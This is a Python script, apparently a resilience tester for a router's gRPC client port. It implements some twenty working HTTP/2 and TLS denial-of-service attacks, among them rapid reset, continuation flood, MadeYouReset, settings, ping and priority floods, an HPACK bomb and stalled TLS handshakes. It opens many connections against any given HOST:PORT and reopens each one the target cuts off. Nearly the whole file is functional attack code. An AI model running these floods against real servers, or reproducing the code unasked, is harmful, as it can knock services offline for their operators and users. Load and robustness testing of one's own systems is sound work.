#!/usr/bin/python3
"""HTTP/2 and TLS put to bad use, against a router's client port. Needs Debian's python3-h2 (its hyperframe and hpack).

usage: abuse.py KIND HOST:PORT [SECONDS [CONNECTIONS]]

KIND is one of
  rapid-reset    calls that are cancelled as soon as they are made (CVE-2023-44487)
  continuation   headers that never end (VU#421644)
  zero-window    calls whose answers are never taken
  slow-headers   a byte of a call's headers each half second
  big-headers    calls with headers of 64 KiB
  idle           connections that say nothing
  settled        connections that say HTTP/2 and then nothing
  made-reset     calls that the router is made to reset, by a window update of 0 (MadeYouReset, CVE-2025-55163)
  settings       settings without end (CVE-2019-9515)
  settings-deaf  the same, and the acknowledgements are never read
  ping           pings without end (CVE-2019-9512)
  window         window updates without end, of one byte each
  priority       priorities without end (CVE-2019-9513)
  empty-data     data frames of 0 bytes without end, in one call (CVE-2019-9518)
  half-requests  requests of 2 MiB that never arrive whole, in pieces of 16 bytes, a hundred on each connection
  padded-data    data frames that bring padding only
  header-table   allows the router a table of 4 GiB for its answers' headers, and asks for such as no other answer has
  hpack-bomb     a header of 4 KB, and 12,000 references to it in each call
  tls-stall      TLS handshakes that are begun and go no further
  tls-begin      TLS handshakes that are finished, and the connection closed, one after the other
  tls-settled    connections that finish a TLS handshake and then say nothing

Each connection that is cut off is made again, as is one that has done what it was for. The kinds tls-... are for routers with TLS,
the others for those without. Prints one JSON object: how many connections were made, how many of them were cut off by the router or
never accepted, how many were finished, how long the first ones lived, and what was sent.
"""
import json
import os
import selectors
import socket
import ssl
import sys
import time

import hpack
from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
AGAIN_SECONDS = 0.05
FLOOD_FRAMES = 500
WAITING = ("idle", "settled", "slow-headers", "zero-window", "tls-stall", "tls-settled")


def settings(**values):
    frame = SettingsFrame(0)
    frame.settings = values.get("settings", {})
    return frame.serialize()


def acknowledged():
    frame = SettingsFrame(0)
    frame.flags.add("ACK")
    return frame.serialize()


def header_block(encoder, more=(), path="/grpc.health.v1.Health/Check"):
    return encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "abuse"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *more,
        ]
    )


def literal(name, value):
    """That enters no table."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


class Finished(Exception):
    """The connection has done what it was for."""


class Attack:
    """One connection. next() gives bytes to send, or nothing if it waits; received() takes what came."""

    deaf = False

    def __init__(self, kind):
        self.kind = kind
        self.encoder = hpack.Encoder()
        self.stream = 1
        self.sent_preface = False
        self.block = b""
        self.not_before = 0.0
        self.calls = 0
        self.turn = 0

    def next(self, now):
        if self.kind == "idle" or now < self.not_before:
            return b""
        if not self.sent_preface:
            self.sent_preface = True
            wanted = {
                "zero-window": {SettingsFrame.INITIAL_WINDOW_SIZE: 0},
                "header-table": {SettingsFrame.HEADER_TABLE_SIZE: 2**32 - 1},
            }.get(self.kind, {})
            return PREFACE + settings(settings=wanted) + acknowledged()
        return getattr(self, self.kind.replace("-", "_"))(now)

    def received(self, data):
        pass

    def headers(self, ended, block):
        frame = HeadersFrame(self.stream)
        frame.data = block
        if ended:
            frame.flags.add("END_HEADERS")
        return frame.serialize()

    def rapid_reset(self, now):
        out = b""
        for _ in range(50):
            out += self.headers(True, header_block(self.encoder))
            out += RstStreamFrame(self.stream, error_code=8).serialize()
            self.stream += 2
            self.calls += 1
        return out

    def continuation(self, now):
        if not self.calls:
            self.calls = 1
            return self.headers(False, header_block(self.encoder))
        frame = ContinuationFrame(self.stream)
        # Literal fields without indexing: legal, and of no end.
        frame.data = b"".join(b"\x00\x04x-%02d\x40" % (i % 100) + b"y" * 64 for i in range(20))
        return frame.serialize()

    def zero_window(self, now):
        if self.calls >= 200:
            return b""
        out = self.headers(True, header_block(self.encoder))
        # An empty message, and the end of the call.
        out += b"\x00\x00\x05\x00\x01" + self.stream.to_bytes(4, "big") + b"\x00\x00\x00\x00\x00"
        self.stream += 2
        self.calls += 1
        return out

    def slow_headers(self, now):
        if not self.block:
            self.block = self.headers(True, header_block(self.encoder))
        self.not_before = now + 0.5
        out, self.block = self.block[:1], self.block[1:]
        return out

    def big_headers(self, now):
        block = header_block(self.encoder, [("x-%d" % i, os.urandom(24).hex()) for i in range(1200)])
        out = self.headers(False, block[:16000])
        rest = block[16000:]
        while rest:
            frame = ContinuationFrame(self.stream)
            frame.data, rest = rest[:16000], rest[16000:]
            if not rest:
                frame.flags.add("END_HEADERS")
            out += frame.serialize()
        self.stream += 2
        self.calls += 1
        self.not_before = now + 0.02
        return out

    def settled(self, now):
        self.not_before = now + 3600
        return b""

    def made_reset(self, now):
        out = b""
        for _ in range(50):
            out += self.headers(True, header_block(self.encoder))
            # An increment of 0 is a stream error, which the receiver has to answer with a reset (RFC 9113, 6.9).
            out += b"\x00\x00\x04\x08\x00" + self.stream.to_bytes(4, "big") + b"\x00\x00\x00\x00"
            self.stream += 2
            self.calls += 1
        return out

    def settings(self, now):
        return settings(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}) * FLOOD_FRAMES

    def settings_deaf(self, now):
        self.deaf = True
        return settings() * FLOOD_FRAMES

    def ping(self, now):
        return PingFrame(0, opaque_data=b"12345678").serialize() * FLOOD_FRAMES

    def window(self, now):
        return WindowUpdateFrame(0, window_increment=1).serialize() * FLOOD_FRAMES

    def priority(self, now):
        return PriorityFrame(1, depends_on=3, stream_weight=7).serialize() * FLOOD_FRAMES

    def empty_data(self, now):
        if not self.calls:
            self.calls = 1
            return self.headers(True, header_block(self.encoder))
        return DataFrame(self.stream).serialize() * FLOOD_FRAMES

    def half_requests(self, now):
        size = 2 * 1024 * 1024
        if self.calls < 100:
            out = self.headers(True, header_block(self.encoder))
            out += b"\x00\x00\x05\x00\x00" + self.stream.to_bytes(4, "big") + b"\x00" + size.to_bytes(4, "big")
            self.stream += 2
            self.calls += 1
            return out
        # Whatever the windows say; 25 bytes of the wire are a piece.
        self.turn = (self.turn + 2) % 200
        frame = DataFrame(self.turn + 1)
        frame.data = b"x" * 16
        return frame.serialize() * 40

    def padded_data(self, now):
        if not self.calls:
            self.calls = 1
            return self.headers(True, header_block(self.encoder))
        return (b"\x00\x00\x01\x00\x08" + self.stream.to_bytes(4, "big") + b"\x00") * FLOOD_FRAMES

    def header_table(self, now):
        out = b""
        for _ in range(10):
            # The router says which method it does not know.
            out += self.headers(True, header_block(self.encoder, path="/no.such/" + os.urandom(3000).hex()))
            out += b"\x00\x00\x00\x00\x01" + self.stream.to_bytes(4, "big")
            self.stream += 2
            self.calls += 1
        return out

    def hpack_bomb(self, now):
        # A literal that enters the table, and then what stands first in the table, again and again.
        block = b"\x83\x86" + literal(":path", "/grpc.health.v1.Health/Check") + literal(":authority", "abuse")
        block += b"\x40\x01x" + bytes(encode_integer(3900, 7)) + b"y" * 3900
        out = self.headers(True, block + b"\xbe" * 12000)
        self.stream += 2
        self.calls += 1
        self.not_before = now + 0.01
        return out


class TlsAttack(Attack):
    """One connection that speaks TLS."""

    def __init__(self, kind):
        super().__init__(kind)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        self.came = ssl.MemoryBIO()
        self.goes = ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.came, self.goes)
        self.shaken = False
        self.handshake()

    def handshake(self):
        try:
            self.tls.do_handshake()
            self.shaken = True
        except ssl.SSLWantReadError:
            pass

    def next(self, now):
        out = self.goes.read()
        if not out and self.shaken and self.kind == "tls-begin":
            raise Finished
        return out

    def received(self, data):
        if self.kind != "tls-stall" and not self.shaken:
            self.came.write(data)
            self.handshake()


def main():
    kind, target = sys.argv[1], sys.argv[2]
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 10
    wanted = int(sys.argv[4]) if len(sys.argv) > 4 else 4
    host, port = target.rsplit(":", 1)
    selector = selectors.DefaultSelector()
    made = cut = finished = calls = sent = 0
    lived = []
    end = time.monotonic() + seconds
    open_now = 0
    not_before = 0.0

    def connect():
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((host, int(port)))
        attack = TlsAttack(kind) if kind.startswith("tls-") else Attack(kind)
        selector.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, (attack, time.monotonic(), bytearray()))

    while time.monotonic() < end:
        now = time.monotonic()
        if open_now < wanted and now >= not_before:
            for _ in range(min(50, wanted - open_now)):
                connect()
                made += 1
                open_now += 1
            not_before = now + AGAIN_SECONDS
        for key, events in selector.select(0.01):
            attack, born, waiting = key.data
            s = key.fileobj
            try:
                if events & selectors.EVENT_READ and not attack.deaf:
                    came = s.recv(65536)
                    if not came:
                        raise ConnectionResetError
                    attack.received(came)
                if events & selectors.EVENT_WRITE:
                    if not waiting:
                        waiting += attack.next(now)
                    if waiting:
                        n = s.send(waiting)
                        sent += n
                        del waiting[:n]
            except BlockingIOError:
                continue
            except (OSError, Finished) as end_of_it:
                selector.unregister(s)
                s.close()
                if isinstance(end_of_it, Finished):
                    finished += 1
                else:
                    cut += 1
                calls += attack.calls
                open_now -= 1
                if len(lived) < 1000:
                    lived.append(time.monotonic() - born)
        if kind in WAITING:
            # Writable all the time, and nothing to write.
            time.sleep(0.05)
    calls += sum(key.data[0].calls for key in selector.get_map().values())
    lived.sort()
    print(
        json.dumps(
            {
                "kind": kind,
                "seconds": seconds,
                "connections_made": made,
                "cut_off": cut,
                "finished": finished,
                "open_at_the_end": open_now,
                "median_life_s": round(lived[len(lived) // 2], 3) if lived else None,
                "longest_life_s": round(lived[-1], 3) if lived else None,
                "calls": calls,
                "bytes_sent": sent,
            }
        )
    )


main()
